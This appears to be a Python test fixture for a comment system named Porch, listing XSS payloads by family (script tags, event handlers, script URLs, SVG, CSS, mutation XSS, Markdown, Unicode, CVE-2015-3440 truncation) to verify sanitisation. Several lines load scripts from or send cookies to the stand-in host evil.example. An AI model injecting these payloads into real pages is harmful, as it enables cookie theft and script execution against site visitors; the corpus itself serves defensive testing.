"""Porch's own XSS corpus: what a stranger may type into a comment, a name or a URL.

Written for Porch's tests from the well-known families of attack: script tags, event
handlers, script URLs, SVG and MathML, CSS, markup that mutates when parsed again,
Markdown's links and images, entities, Unicode look-alikes and invisible characters,
and WordPress's stored XSS by truncation (CVE-2015-3440: text cut at a 4-byte
character at the column's limit, leaving an attribute open). Each payload, if it
ever ran, would call ``alert`` (a dialog the browser test counts) or fetch from
``evil.example`` (a request the browser test counts).
"""

from __future__ import annotations

from porch.comments.models import BODY_MAX_LENGTH, NAME_MAX_LENGTH

EVIL = "https://evil.example"
FOUR_BYTES = "\U0001f600"  # a 4-byte character in UTF-8, as in CVE-2015-3440

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    f"<SCRIPT SRC={EVIL}/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example/x.js></script>",
    "<script>alert`1`</script>",
    '"><script>alert(1)</script>',
    "'</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    f"<script>fetch('{EVIL}/steal?c='+document.cookie)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '<IMG SRC=# onmouseover="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="#" onclick="alert(1)">click</a>',
    "<p onpointerenter=alert(1)>x</p>",
    "<x onclick=alert(1) contenteditable>click",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus="alert(1)" x="',
]

SCRIPT_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="javascript:alert(1)//">',
    '<img src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<img src="{EVIL}/pixel.png">',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1) />",
    "<svg/onload=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x'
    "</maction></math>",
]

CSS = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    f"<style>@import '{EVIL}/x.css';</style>",
    f'<style>body{{background:url("{EVIL}/track.png")}}</style>',
    '<p style="behavior:url(#default#time2)">x</p>',
    f'<div style="-moz-binding:url({EVIL}/xss.xml#xss)">x</div>',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">Host</span>',
    f'<p style="background-image:url({EVIL}/bg.png)">x</p>',
]

MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<a href="x" title="<img src=x onerror=alert(1)>">x</a>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<img """><script>alert(1)</script>">',
    '<a/href="javascript:alert(1)">x',
    "<div><img src=x onerror=alert(1)//",
    '<table><td background="javascript:alert(1)">x</td></table>',
    f'<object data="{EVIL}/x.swf"></object>',
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)>",
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](<javascript:alert(1)>)",
    "![img](javascript:alert(1))",
    '![img](x"onerror="alert(1))',
    f"![img]({EVIL}/pixel.png)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[a](https://example.com "t\\" onmouseover=\\"alert(1)")',
    "[a](https://example.com'onmouseover='alert(1))",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '[x](#" onclick="alert(1))',
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "[x](\njavascript:alert(1))",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
    'alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

UNICODE = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="javascript\u2028:alert(1)">x</a>',
    "\u202eHost\u202c",
    "<img src=x onerror\u00a0=alert(1)>",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    '<a href="\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)">'
    "x</a>",
    "\ufeff<script>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
]


def truncation_payloads() -> list[str]:
    """CVE-2015-3440's shape: a 4-byte character exactly at a column's limit.

    MySQL cut WordPress's comment there, leaving ``<a title='`` open so the rest
    became attributes. Each is as long as the column allows, or one past it.
    """
    opener, closer = (
        "<a title='x ",
        "' onmouseover='alert(1)' style='position:fixed'>x</a>",
    )
    body_pad = BODY_MAX_LENGTH - len(opener) - 1
    name_pad = NAME_MAX_LENGTH - len("<b title='") - 1
    return [
        opener + "A" * body_pad + FOUR_BYTES + closer,  # one character over: refused
        opener + "A" * (body_pad - len(closer)) + FOUR_BYTES + closer,  # fits
        "<b title='" + "A" * name_pad + FOUR_BYTES + "' onclick=alert(1)>",
    ]


PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *SCRIPT_URLS,
    *SVG_AND_MATHML,
    *CSS,
    *MUTATIONS,
    *MARKDOWN,
    *ENTITIES,
    *UNICODE,
    *truncation_payloads(),
]

# For the website field: the form takes only http(s) addresses, the importers take
# what the old site stored; the page must still never carry a script URL.
WEBSITES = [
    "javascript:alert(1)",
    "JavaScript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/'><script>alert(1)</script>",
    "http://example.com/?q=<script>alert(1)</script>",
    'https://example.com/#"><img src=x onerror=alert(1)>',
    "//evil.example/x",
    "https://evil.example/\u202eexe.txt",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
]
